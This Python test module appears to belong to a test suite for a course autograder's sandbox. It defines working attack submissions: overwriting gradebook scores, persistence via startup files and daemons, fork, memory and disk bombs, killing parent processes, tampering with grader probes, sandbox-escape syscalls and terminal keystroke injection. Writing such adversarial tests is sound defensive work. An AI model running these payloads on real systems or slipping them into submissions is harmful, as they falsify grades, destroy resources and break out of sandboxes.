"""Harm: writing the gradebook and the host, processes that stay, killing, bombs, escapes."""

from __future__ import annotations

from tests.attacks.kinds import ANY, SAFE, Attack, code
from tests.attacks.plain import plainly

WRITE = "writing the gradebook and the host"
DAEMON = "surviving daemons"
KILL = "killing parents"
FORK = "fork bomb"
MEMORY = "memory bomb"
DISK = "disk bomb"
OUTPUT = "output bomb"
ENDLESS = "endless loops and crashes"
ESCAPE = "leaving the sandbox"

GRADEBOOK = """
import glob, sqlite3
for path in ["@COURSE@/gradebook.db", "../../../gradebook.db", "../../gradebook.db",
             *glob.glob("/proc/*/root@COURSE@/gradebook.db"), *glob.glob("/*/gradebook.db")]:
    try:
        with sqlite3.connect(path, timeout=2) as book:
            book.execute("update grade set auto_score = 100, manual_score = 100")
            print("@TOKEN@" + "-FOUND", path)
    except Exception as err:
        print(path, err)
"""
OTHERS = """
import glob, os
for path in ["@FILE@", "@COURSE@/canary.txt", "@COURSE@/results.json",
             *glob.glob("@COURSE@/*/*/lora/*"), "/etc/@TOKEN@",
             "/usr/local/@TOKEN@", "/root/@TOKEN@", "/var/tmp/@TOKEN@", "/dev/shm/@TOKEN@",
             "/tmp/@TOKEN@", "@COURSE@/@TOKEN@"]:
    try:
        with open(path, "a") as stream:
            stream.write("@TOKEN@")
        os.chmod(path, 0o4777)
    except OSError as err:
        print(path, err.strerror)
import fttools
for path in ("/etc/passwd", "/usr/bin/python3", "/usr", fttools.__file__, torch.__file__):
    if os.access(path, os.W_OK):
        print("@TOKEN@" + "-FOUND writable", path)
"""
STARTUP = """
import os, site, sys
places = [os.path.dirname(torch.__file__), *site.getsitepackages(), os.path.expanduser("~"),
          os.path.expanduser("~/.ipython/profile_default/startup"), sys.prefix, "/usr/lib/python3"]
for place in places:
    for name in ("@TOKEN@.pth", "@TOKEN@.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as stream:
                stream.write("import os  # @TOKEN@\\n")
        except OSError as err:
            print(place, err.strerror)
os.environ["PYTHONSTARTUP"] = "/tmp/@TOKEN@"
"""
LOOP = """
import os, socket, sqlite3, time
def haunt(seconds=60):
    until = time.time() + seconds
    while time.time() < until:
        for path in ("@COURSE@/@TOKEN@-alive", "/tmp/@TOKEN@-alive", "/dev/shm/@TOKEN@-alive"):
            try:
                open(path, "a").write(".")
            except OSError:
                pass
        for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
            try:
                with sqlite3.connect(path, timeout=1) as book:
                    book.execute("update grade set auto_score = 100, manual_score = 100")
            except Exception:
                pass
        try:
            socket.create_connection(("127.0.0.1", @PORT@), 0.2).sendall(b"@TOKEN@")
        except OSError:
            pass
        time.sleep(0.3)
"""
DOUBLE_FORK = (
    LOOP
    + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3):
            os.close(fd)
        haunt()
    os._exit(0)
"""
)
PLAIN_DAEMON = """
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(60):
            try:
                with sqlite3.connect("../../../gradebook.db", timeout=1) as book:
                    book.execute("update grade set auto_score = 100, manual_score = 100")
            except sqlite3.Error:
                pass
            time.sleep(0.3)
    os._exit(0)
scaled = None
"""
NOHUP = """
import os, subprocess
name = "@TOKEN@-sleeper"
for _ in range(3):
    subprocess.Popen([name, "600"], executable="/bin/sleep", start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
os.system(f"(nohup sh -c 'exec -a {name} sleep 600' >/dev/null 2>&1 &)")
os.system("echo 'touch /tmp/@TOKEN@' | at now 2>/dev/null; crontab -l 2>/dev/null")
"""
DEAF = """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, lambda *a: None)
    except (OSError, ValueError):
        pass
try:
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
except OSError:
    pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
PARENTS = (
    SAFE
    + """
import os, signal
pid = os.getppid()
for target in [pid, 1, *range(2, 40)]:
    if target != os.getpid():
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(target, number)
            except OSError:
                pass
try:
    os.killpg(os.getpgid(pid), signal.SIGKILL)
except OSError:
    pass
"""
)
EVERYONE = (
    SAFE
    + """
import os, signal
os.kill(-1, signal.SIGKILL)
"""
)
FREEZE = (
    SAFE
    + """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
"""
)
FORKS = (
    SAFE
    + """
import os, time
started = 0
try:
    while started < 20_000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        started += 1
except OSError as err:
    print(started, err)
"""
)
SPREADING = (
    SAFE
    + """
import os, time
until = time.time() + 20
while time.time() < until:
    try:
        os.fork()
    except OSError:
        pass
os._exit(0)
"""
)
THREADS = (
    SAFE
    + """
import threading, time
waiting = []
try:
    for _ in range(50_000):
        waiting.append(threading.Thread(target=time.sleep, args=(30,), daemon=True))
        waiting[-1].start()
except RuntimeError as err:
    print(len(waiting), err)
"""
)
GREEDY = (
    SAFE
    + """
hoard = []
while len(hoard) < 64 * 64:
    hoard.append(bytearray(b"x") * 2**24)
"""
)
SHARED = (
    SAFE
    + """
import mmap, os
held = []
for number in range(64):
    fd = os.memfd_create(f"m{number}")
    os.ftruncate(fd, 2**30)
    m = mmap.mmap(fd, 2**30)
    for at in range(0, 2**30, 4096):
        m[at] = 1
    held.append(m)
"""
)
SHM = (
    SAFE
    + """
blob = b"x" * 2**24
for place in ("/dev/shm", "/tmp", ".", "/run", "/var/tmp"):
    try:
        with open(place + "/bomb", "wb") as stream:
            for _ in range(512):
                stream.write(blob)
    except OSError as err:
        print(place, err.strerror)
"""
)
INODES = (
    SAFE
    + """
import os
try:
    for number in range(2_000_000):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
except OSError as err:
    print(number, err.strerror)
"""
)
SPARSE = (
    SAFE
    + """
import os
for place in ("answer.bin", "/tmp/answer.bin"):
    try:
        with open(place, "wb") as stream:
            os.truncate(stream.fileno(), 2**42)
    except OSError as err:
        print(place, err.strerror)
"""
)
PRINTS = """
line = "spam" * 25_000
for _ in range(20_000):
    print(line)
"""
DISPLAYS = """
from IPython.display import display, HTML
for _ in range(2_000):
    display(HTML("<p>" + "x" * 1_000_000))
"""
DESCRIPTORS = (
    SAFE
    + """
import os
try:
    while True:
        os.dup(0)
except OSError as err:
    print(err)
"""
)
FOREVER = "while True:\n    pass\n"
PROBED = """
class LoRALinear(nn.Module):
    def __init__(self, base, rank, alpha):
        while True:
            pass
"""
SLEEPY = """
import time
class LoRALinear(nn.Module):
    def __init__(self, base, rank, alpha):
        time.sleep(10_000)
"""
RECURSION = (
    SAFE
    + """
import sys
sys.setrecursionlimit(10**9)
def down(n):
    return down(n + 1) + 1
down(0)
"""
)
SEGFAULT = (
    SAFE
    + """
import ctypes
ctypes.string_at(0)
"""
)
LEAVES = """
import os
class LoRALinear(nn.Module):
    def __init__(self, base, rank, alpha):
        os._exit(0)
"""
AT_EXIT = """
import atexit, threading, time, sys, os
atexit.register(time.sleep, 600)
threading.Thread(target=time.sleep, args=(600,)).start()
sys.stdout.close()
sys.stderr.close()
os.close(1)
os.close(2)
"""
SETTRACE = """
import sys, threading
def tracer(frame, event, argument):
    if "checks" in frame.f_code.co_filename and event == "call":
        frame.f_locals["names"] = {}
        frame.f_locals["failed"] = None
    return tracer
sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda *a: None)
"""
BACKGROUND = """
import threading, time, gc
def meddle():
    while True:
        for thing in gc.get_objects():
            if isinstance(thing, dict) and thing.keys() & {"moved", "trainable", "accuracy"}:
                thing.update(trainable=0, total=0, accuracy=1.0, low=0.9, high=1.0)
        time.sleep(0.05)
threading.Thread(target=meddle, daemon=True).start()
"""
SYSCALLS = (
    SAFE
    + """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
def said(name, result):
    print(name, result, os.strerror(ctypes.get_errno()) if result else "done")
said("unshare user", libc.unshare(0x10000000))
said("unshare mount", libc.unshare(0x00020000))
said("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
said("remount", libc.mount(None, b"/", None, 32 | 4096, None))
said("umount", libc.umount2(b"/proc", 2))
said("chroot", libc.chroot(b"/tmp"))
said("setuid", libc.setuid(0))
said("setns", libc.setns(3, 0))
said("pivot_root", libc.syscall(155, b"/tmp", b"/tmp"))
said("keyctl", libc.syscall(250, 0, 0, 0, 0, 0))
said("bpf", libc.syscall(321, 0, 0, 0))
said("perf_event_open", libc.syscall(298, 0, 0, 0, 0, 0))
said("userfaultfd", libc.syscall(323, 0))
said("kexec", libc.syscall(246, 0, 0, 0, 0))
said("init_module", libc.syscall(175, 0, 0, 0))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/proc/sys/vm/drop_caches", "/sys/fs/cgroup/release_agent"):
    try:
        os.close(os.open(path, os.O_WRONLY))
        print("@TOKEN@" + "-FOUND can write", path)
    except OSError as err:
        print(path, err.strerror)
try:
    os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
    print(open("/tmp/disk", "rb").read(16))
except OSError as err:
    print(err)
print(subprocess.run("sudo -n id; su -c id; ls -l /proc/self/ns; cat /proc/self/uid_map",
                     shell=True, capture_output=True, text=True))
if os.geteuid() == 0:
    print("root inside")
"""
)
TERMINAL = """
import fcntl, termios
for fd in range(3):
    for c in b"id\\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        except OSError as err:
            print(err)
for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
    try:
        open(path, "w").write("@TOKEN@")
    except OSError as err:
        print(path, err.strerror)
"""

ATTACKS: list[Attack] = [
    code("write_gradebook", WRITE, "set every score in the gradebook", GRADEBOOK),
    code("write_host", WRITE, "append to the course, the host, and classmates' work", OTHERS),
    code("startup_files", WRITE, "leave code that later submissions would run", STARTUP,
         solved=("LoRALinear",)),
    code("double_fork", DAEMON, "a daemon that waits to write the gradebook", DOUBLE_FORK,
         solved=("LoRALinear",), plain=plainly(PLAIN_DAEMON)),
    code("nohup", DAEMON, "background programs in sessions of their own", NOHUP,
         solved=("LoRALinear",)),
    code("deaf", DAEMON, "a kernel that ignores every signal", DEAF, outcomes=ANY, heavy=True),
    code("kill_parents", KILL, "kill, stop and terminate every process above", PARENTS,
         outcomes=ANY, exact=False, solved=("LoRALinear",)),
    code("kill_everyone", KILL, "kill(-1)", EVERYONE, outcomes=ANY),
    code("freeze", KILL, "stop itself, so that the grader waits", FREEZE, outcomes=ANY, heavy=True),
    code("fork_bomb", FORK, "20,000 sleeping children", FORKS, outcomes=ANY, exact=False,
         solved=("LoRALinear",)),
    code("spreading", FORK, "children that fork children", SPREADING, outcomes=ANY, heavy=True),
    code("thread_bomb", FORK, "50,000 threads", THREADS, outcomes=ANY, exact=False),
    code("memory_bomb", MEMORY, "64 GB of memory", GREEDY, outcomes=ANY, heavy=True),
    code("memfd_bomb", MEMORY, "64 GB in anonymous shared files", SHARED, outcomes=ANY, heavy=True),
    code("disk_bomb", DISK, "8 GB in each folder that can be written", SHM, outcomes=ANY,
         exact=False, heavy=True),
    code("inode_bomb", DISK, "two million empty files", INODES, outcomes=ANY, heavy=True),
    code("sparse_file", DISK, "a file of 4 TB that takes no room", SPARSE, outcomes=ANY,
         exact=False, solved=("LoRALinear",)),
    code("output_bomb", OUTPUT, "2 GB printed", PRINTS, outcomes=ANY, heavy=True),
    code("display_bomb", OUTPUT, "2 GB displayed", DISPLAYS, outcomes=ANY, heavy=True),
    code("descriptors", OUTPUT, "every file descriptor taken", DESCRIPTORS, outcomes=ANY,
         exact=False),
    code("forever", ENDLESS, "an endless loop in a cell", FOREVER, outcomes=ANY, heavy=True),
    code("forever_probed", ENDLESS, "an endless loop when a probe calls", PROBED, outcomes=ANY,
         heavy=True),
    code("sleeps_probed", ENDLESS, "sleeps when a probe calls", SLEEPY, outcomes=ANY, heavy=True),
    code("recursion", ENDLESS, "recursion without a limit, to overflow the C stack", RECURSION,
         outcomes=ANY, plain=None),
    code("segfault", ENDLESS, "a segmentation fault", SEGFAULT, outcomes=ANY),
    code("leaves_probed", ENDLESS, "os._exit(0) when a probe calls", LEAVES, outcomes=ANY),
    code("at_exit", ENDLESS, "threads and exit handlers that hang; standard output closed", AT_EXIT,
         solved=("LoRALinear",), outcomes=ANY),
    code("settrace", ENDLESS, "a trace function that rewrites the probes' variables", SETTRACE,
         outcomes=ANY),
    code("background", ENDLESS, "a thread that rewrites answers while they are made", BACKGROUND,
         outcomes=ANY),
    code("syscalls", ESCAPE, "mount, unshare, mknod, setuid, kernel knobs", SYSCALLS, outcomes=ANY),
    code("terminal", ESCAPE, "type into the instructor's terminal", TERMINAL),
]  # fmt: skip
